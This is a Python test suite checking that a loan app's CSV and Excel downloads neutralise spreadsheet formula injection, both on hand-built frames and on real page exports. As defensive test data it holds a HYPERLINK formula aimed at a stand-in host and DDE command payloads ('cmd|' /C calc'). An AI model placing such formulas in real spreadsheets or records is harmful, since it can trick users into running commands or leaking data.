"""Formula injection in downloads: no CSV or Excel file the app hands out may carry a live formula.

Text that starts with = + - @ (or tab, CR, LF, or the full-width ＝＋－＠) gets a leading ' (OWASP's CSV
injection rule); numbers stay numbers; Excel text cells are string cells, never formula cells. Checked on
hand-made frames, then on the bytes of the real pages' downloads after storing hostile text through the
app's own command (a decision reason) and as imported data would arrive (borrower name, contract number).
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import select, update
from streamlit.testing.v1 import AppTest

from data import decisions, export
from data.db import make_engine, transaction
from data.models import AppUser, Borrower, Loan, LoanMonth, Officer
from data.users import actor_of

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?x","click")'
HOSTILE = [EVIL, "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1",
           "\uff201"]
HARMLESS = ["plain text", "'already quoted", " =leading space is text", "", "1-2", "a=b"]


def parse_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def read_xlsx(data: bytes) -> list[list[openpyxl.cell.cell.Cell]]:
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows()]


def _xlsx_text(value: str) -> str:
    """What an XML reader gives back for a text: XML turns a carriage return into a line feed."""
    return value.replace("\r", "\n")


def hostile_frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame({
        "text": HOSTILE,
        "mixed": [EVIL, 5, -3, None] + [f"@{i}" for i in range(n - 4)],  # object column: only strings change
        "count": list(range(-1, n - 1)),  # int64, with a negative
        "cents": [-12.34, 0.01] + [float(i) / 100 for i in range(n - 2)],  # float64, negative and cents
    })


# --- the neutralising function ----------------------------------------------------------------------------------------
@pytest.mark.parametrize("value", HOSTILE)
def test_every_formula_start_gets_a_quote(value):
    assert export.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_text_is_unchanged(value):
    assert export.neutralise(value) == value


@pytest.mark.parametrize("value", [-5, -0.5, 0, 12.34, None, True, dt.date(2025, 1, 1)])
def test_non_text_values_are_unchanged(value):
    assert export.neutralise(value) is value


def test_csv_cells_are_neutralised_and_numbers_stay_numbers():
    frame = hostile_frame()
    rows = parse_csv(export.to_csv(frame))
    assert rows[0] == ["text", "mixed", "count", "cents"]
    assert len(rows) == len(frame) + 1, "a CR or LF inside a text must not start a new record"
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert rows[1][1] == "'" + EVIL and rows[2][1] == "5" and rows[3][1] == "-3" and rows[4][1] == ""
    texts = [r[0] for r in rows[1:]] + [r[1] for r, v in zip(rows[1:], frame["mixed"]) if isinstance(v, str)]
    assert all(cell[0] not in export.FORMULA_STARTS for cell in texts), texts
    back = pd.read_csv(io.BytesIO(export.to_csv(frame)))
    assert back["count"].dtype.kind == "i" and back["count"].tolist() == frame["count"].tolist()
    assert back["cents"].dtype.kind == "f" and back["cents"].tolist() == frame["cents"].tolist()


def test_a_carriage_return_inside_a_text_cannot_open_a_cell_of_its_own():
    """pandas ends CSV lines with LF and so left a bare CR unquoted: a spreadsheet breaks the row there."""
    data = export.to_csv(pd.DataFrame({"note": ["paid\r=1+1", "ok"], "n": [1, 2]}))
    assert parse_csv(data) == [["note", "n"], ["paid\r=1+1", "1"], ["ok", "2"]]


def test_headers_are_neutralised_too():
    rows = parse_csv(export.to_csv(pd.DataFrame({"=cmd": ["x"], "ok": [1]})))
    assert rows[0] == ["'=cmd", "ok"]


def test_xlsx_text_is_string_cells_and_numbers_numeric_cells():
    frame = hostile_frame()
    rows = read_xlsx(export.to_xlsx(frame))
    assert [c.value for c in rows[0]] == ["text", "mixed", "count", "cents"]
    for cell, value in zip([r[0] for r in rows[1:]], HOSTILE):
        assert (cell.data_type, cell.value) == ("s", _xlsx_text("'" + value))
    assert (rows[1][1].data_type, rows[1][1].value) == ("s", "'" + EVIL)
    assert (rows[2][1].data_type, rows[2][1].value) == ("n", 5)
    assert (rows[3][1].data_type, rows[3][1].value) == ("n", -3)
    assert [(r[2].data_type, r[2].value) for r in rows[1:]] == [("n", v) for v in frame["count"]]
    assert [(r[3].data_type, r[3].value) for r in rows[1:]] == [("n", v) for v in frame["cents"]]
    assert not [c for row in rows for c in row if c.data_type == "f"]


def test_xlsx_control_characters_do_not_break_the_download():
    rows = read_xlsx(export.to_xlsx(pd.DataFrame({"note": ["bell\x07 and \x01"]})))
    assert rows[1][0].value == "bell\ufffd and \ufffd"


def test_categorical_and_string_dtypes_are_neutralised():
    frame = pd.DataFrame({"cat": pd.Categorical(["=a", "b"]), "str": pd.array(["-x", None], dtype="string")})
    rows = parse_csv(export.to_csv(frame))
    assert rows[1:] == [["'=a", "'-x"], ["b", ""]]


def test_every_export_in_the_app_goes_through_data_export():
    """No page, component, data module or script writes a CSV or Excel file of its own."""
    offenders = []
    for folder in ("components", "pages", "data", "scripts"):
        for path in (ROOT / folder).rglob("*.py"):
            if path == ROOT / "data" / "export.py":
                continue
            source = path.read_text(encoding="utf-8")
            for pattern in (r"(?<!export)\.to_csv\(", r"\.to_excel\(", r"ExcelWriter", r"csv\.writer",
                            r"openpyxl\.Workbook"):
                if re.search(pattern, source):
                    offenders.append(f"{path.relative_to(ROOT)}: {pattern}")
    for path in [ROOT / "app.py", *(ROOT / "pages").glob("*.py"), *(ROOT / "components").glob("*.py")]:
        for call in re.findall(r"download_button\((.*?)key=", path.read_text(encoding="utf-8"), flags=re.S):
            if not re.search(r"to_csv\(|to_excel\(|sample_csv|\.pdf|ready\[1\]", call):
                offenders.append(f"{path.relative_to(ROOT)}: download_button({call.strip()[:60]}...)")
    assert offenders == []


# --- the real pages' downloads ----------------------------------------------------------------------------------------
def _run_page_collecting_downloads(page_path: str, username: str, section_key: str, section: str) -> None:
    """AppTest script: run a page as ``username`` and keep the bytes of every deferred download it offers.

    A download callable runs when the browser asks for the file; here it is called at the end of the run,
    exactly as Streamlit would, and its bytes are kept in the session under their file names.
    """
    import runpy

    import streamlit as st
    from streamlit import runtime

    from tests.apptest_support import signed_in_state

    if "test.signed_in" not in st.session_state:  # a real server-side session, as the app requires
        st.session_state.update(signed_in_state(username))
        st.session_state["test.signed_in"] = True
    st.session_state.update({"lang": "en", "entered_via_app": True, section_key: section})
    try:
        runpy.run_path(page_path, run_name="__main__")
    finally:
        manager = runtime.get_instance().media_file_mgr
        files = {}
        for entry in list(manager._deferred_callables.values()):
            files[entry["filename"]] = entry["callable"]()
        st.session_state["test.downloads"] = files


def page_downloads(page: str, username: str, *, section_key: str = "unused", section: str = "") -> dict[str, bytes]:
    at = AppTest.from_function(_run_page_collecting_downloads, default_timeout=90,
                               args=(str(ROOT / "pages" / f"{page}.py"), username, section_key, section))
    at.run()
    assert not at.exception, at.exception
    return at.session_state["test.downloads"]


def _assert_inert(files: dict[str, bytes], stem: str, expected: list[str]) -> None:
    csv_text = [cell for row in parse_csv(files[f"{stem}.csv"]) for cell in row]
    xlsx_cells = [cell for row in read_xlsx(files[f"{stem}.xlsx"]) for cell in row]
    for value in expected:
        assert "'" + value in csv_text, (value, stem)
        assert value not in csv_text
        matching = [c for c in xlsx_cells if c.value == "'" + value]
        assert matching and all(c.data_type == "s" for c in matching), (value, stem)
    assert not [c.coordinate for c in xlsx_cells if c.data_type == "f"]
    assert not [c for c in csv_text if c and c[0] in "=+@"]


def test_decision_reason_is_inert_in_the_decisions_downloads(private_demo_url):
    engine = make_engine(private_demo_url)
    try:
        with transaction(engine) as s:
            user = s.scalars(select(AppUser).where(AppUser.username == "supervisor")).one()
            officer_id = s.scalar(select(Officer.id).where(Officer.active.is_(True)).order_by(Officer.id).limit(1))
            decisions.propose(s, actor=actor_of(user), officer_id=officer_id, kind="warning", reason=EVIL,
                              effective_on=dt.date.today())
    finally:
        engine.dispose()
    files = page_downloads("decisions", "director", section_key="decisions.section", section="history")
    _assert_inert(files, "decisions", [EVIL])
    rows = read_xlsx(files["decisions.xlsx"])
    amount_col = [c.value for c in rows[0]].index("Amount")
    assert any(r[amount_col].data_type == "n" and r[amount_col].value for r in rows[1:]), "amounts stay numbers"


def test_imported_borrower_and_contract_are_inert_in_the_largest_npl_downloads(private_demo_url, demo_facts):
    _, months, _ = demo_facts
    engine = make_engine(private_demo_url)
    try:
        with transaction(engine) as s:  # as a loan tape would bring them in: stored exactly as written
            loan_id = s.scalar(select(LoanMonth.loan_id).where(LoanMonth.month == months[-1],
                                                               LoanMonth.loan_class == "loss").limit(1))
            loan = s.get(Loan, loan_id)
            s.execute(update(Borrower).where(Borrower.id == loan.borrower_id).values(name="@SUM(1+1)*cmd|' /C calc'!A0"))
            s.execute(update(Loan).where(Loan.id == loan_id).values(contract_no="-2+3+cmd|' /C calc'!A0"))
    finally:
        engine.dispose()
    files = page_downloads("overview", "director")
    stem = f"largest-npls-{months[-1]:%Y-%m}"
    _assert_inert(files, stem, ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"])
    rows = read_xlsx(files[f"{stem}.xlsx"])
    balance_col = [c.value for c in rows[0]].index("Balance")
    assert all(r[balance_col].data_type == "n" for r in rows[1:]), "balances stay numeric cells"
